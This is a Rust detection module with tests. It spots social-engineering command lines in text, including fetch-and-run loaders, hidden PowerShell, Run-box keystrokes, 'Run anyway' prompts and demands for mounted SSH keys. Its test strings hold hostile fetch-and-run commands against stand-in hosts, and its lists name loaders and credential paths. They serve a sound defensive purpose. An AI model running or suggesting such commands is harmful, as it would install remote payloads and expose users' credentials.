//! Command lines in prose: what a shell would run, whoever says it and however.
//!
//! A program's name alone is a word like any other ("experience with Docker"); a command is a name with the arguments
//! that make it one.

use aho_corasick::AhoCorasick;
use std::sync::LazyLock;

use crate::text::words;

/// Interpreters and downloaders with an argument that fetches or runs something: `mshta https://…`,
/// `powershell -enc …`, `curl … | sh`.
pub(super) fn shell(folded: &str) -> bool {
    if !folded.contains("://") && !folded.contains(" -") {
        return false;
    }
    const LOADERS: [&str; 16] = [
        "mshta", "powershell", "pwsh", "cmd /c", "cmd.exe", "rundll32", "regsvr32", "certutil", "bitsadmin", "msiexec",
        "wscript", "cscript", "conhost", "osascript", "iex", "iwr",
    ];
    let fetches = folded.contains("http://") || folded.contains("https://") || folded.contains("://");
    let switches = folded
        .split_whitespace()
        .any(|w| w.len() > 2 && w.starts_with('-') && w.chars().nth(1).is_some_and(|c| c.is_ascii_alphabetic()));
    let loader = LOADERS.iter().any(|l| words::has(folded, l)) && (fetches || switches);
    let piped = (words::has(folded, "curl") || words::has(folded, "wget"))
        && (fetches || switches)
        && (folded.contains('|') || folded.contains("bash") || folded.contains("sh "));
    loader || piped
}

/// A command that hides what it does: no window, an encoded text, a page run as a program, a remark behind it that
/// passes for something harmless. Nobody honest needs one.
pub(crate) fn hides(folded: &str) -> bool {
    let program = |name: &str| words::has(folded, name);
    let switch = |names: &[&str]| folded.split_whitespace().any(|w| names.contains(&w));
    shell(folded)
        && (program("mshta")
            || program("conhost") && folded.contains("headless")
            || (program("powershell") || program("pwsh"))
                && (folded.contains("hidden") || switch(&["-enc", "-e", "-ec", "-encodedcommand"]))
            || folded.contains("://") && folded.split_once(" # ").is_some_and(|(_, remark)| !remark.trim().is_empty()))
}

/// The way to the Run box, or to pasting into it: `Windows key + R`, `Win+X`, `Ctrl + V` then Enter.
pub(super) fn run_box(folded: &str) -> bool {
    if !folded.contains('+') && !folded.contains("키") {
        return false;
    }
    let flat: String = folded.chars().filter(|c| !c.is_whitespace()).collect();
    [
        "windowskey+r", "winkey+r", "win+r", "⊞+r", "windows+r", "windowskey+x", "win+x", "윈도우키+r", "윈도우+r",
        "windows키+r", "win키+r", "cmd+space",
    ]
    .iter()
    .any(|k| flat.contains(k) || flat.contains(&k.replace('+', "와")) || flat.contains(&k.replace('+', "과")))
}

/// Fetching a project and starting it: `git clone …`, `npm install`, `docker compose up`, `yarn start`.
pub(super) fn project(folded: &str) -> bool {
    const STARTS: [&str; 24] = [
        "npm install", "npm i", "npm ci", "npm start", "npm run*", "npx", "yarn", "yarn start", "yarn dev",
        "yarn install", "pnpm i", "pnpm install", "pnpm dev", "bun install", "pip install -r", "docker compose up",
        "docker-compose up", "docker run", "make run", "cargo run", "go run", "python main.py", "npm test",
        "poetry install",
    ];
    // A word of every command below; hardly any sentence holds one.
    static TOOLS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasick::new([
            "npm", "npx", "yarn", "bun", "pip", "docker", "make", "cargo", "go run", "python", "poetry", "git clone",
        ])
        .ok()
    });
    if !TOOLS.as_ref().is_some_and(|tools| tools.is_match(folded)) {
        return false;
    }
    let clone = words::has(folded, "git clone")
        && (folded.contains("://") || folded.contains("git@") || words::has(folded, "and") || folded.contains(','));
    let starts = STARTS.iter().filter(|s| words::has(folded, s)).count();
    // Job descriptions list tools; a task strings commands together or names a place to clone from.
    clone && (starts > 0 || folded.contains("://"))
        || starts > 1 && (folded.contains("&&") || folded.contains(", then") || folded.contains(" and "))
}

/// The button under a warning of the operating system or browser that lets the program run all the same: "Run anyway",
/// "Open Anyway", "추가 정보 → 실행". Who signs his programs needs nobody to press it.
pub(super) fn overrides(folded: &str) -> bool {
    const BUTTONS: [&str; 10] = [
        "run anyway", "open anyway", "install anyway", "keep anyway", "allow anyway", "download anyway", "그래도 열기",
        "그래도 실행", "무시하고 실행", "무시하고 설치",
    ];
    BUTTONS.iter().any(|button| words::find(folded, button).is_some_and(|at| !forbidden(folded, at)))
        || words::has(folded, "추가 정보") && words::find(folded, "실행").is_some_and(|at| !forbidden(folded, at))
}

/// A program that is to be given the reader's own keys or the run of the machine: `~/.ssh` mounted, the Docker socket, a
/// key chain.
pub(super) fn keys(folded: &str) -> bool {
    const KEYS: [&str; 12] = [
        "~/.ssh", ".ssh folder", ".ssh directory", "docker socket", "docker.sock", "~/.aws", "~/.kube", "~/.gnupg",
        "your keychain", "your key chain", "id_rsa", "your private key*",
    ];
    const GIVEN: [&str; 17] = [
        "mount*", "map", "mapped", "needs", "wants", "expects", "requires", "read access", "access to", "reads",
        "pass in", "마운트*", "연결해", "필요", "읽어", "권한", "물려",
    ];
    KEYS.iter().any(|key| words::find(folded, key).is_some_and(|at| !forbidden(folded, at)))
        && words::any(folded, &GIVEN)
}

/// Whether what stands at a place is forbidden or denied there: "never press …", "you don't need …", "… 누르지 마세요".
fn forbidden(folded: &str, at: usize) -> bool {
    const REACH: usize = 32;
    let from = (at.saturating_sub(REACH)..=at).find(|place| folded.is_char_boundary(*place)).unwrap_or(at);
    let before = folded.get(from..at).unwrap_or("");
    let after = folded.get(at..).unwrap_or("");
    ["never ", "n't ", "not ", "no need", "without"].iter().any(|word| before.contains(word))
        || ["지 마", "지 않", "지 말", "필요 없"].iter().any(|word| after.contains(word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_tools() {
        assert!(shell("conhost --headless mshta https://x.example/cam # verification id 1"));
        assert!(shell("curl -fssl https://x.example/fix.sh | bash"));
        assert!(!shell("you will write powershell scripts and use curl in our pipelines"));
        assert!(hides("conhost --headless mshta https://x.example/cam # verification id 1"));
        assert!(hides("powershell -w hidden -c iwr https://x.example/a | iex"));
        assert!(!hides("curl -fssl https://sh.rustup.example | sh") && !hides("powershell -file .\\build.ps1"));
        assert!(run_box("1. press the windows key + r") && !run_box("windows and r skills"));
        assert!(overrides("press more info and after it run anyway, the certificate is renewing"));
        assert!(overrides("파란 창이 뜨면 추가 정보를 누르고 실행을 선택하세요"));
        assert!(!overrides("never press run anyway") && !overrides("추가 정보는 실행 파일이 아니니 누르지 마세요"));
        assert!(keys("it wants the docker socket and ~/.ssh mounted so it can pull the module"));
        assert!(!keys("you do not need ~/.ssh mounted") && !keys("we store secrets in the keychain"));
        assert!(project("git clone https://bitbucket.org/x/y, yarn, yarn start, log in"));
        assert!(project("just npm install and npm start, then look at it"));
        assert!(!project("experience with npm, yarn and docker is welcome"));
    }
}
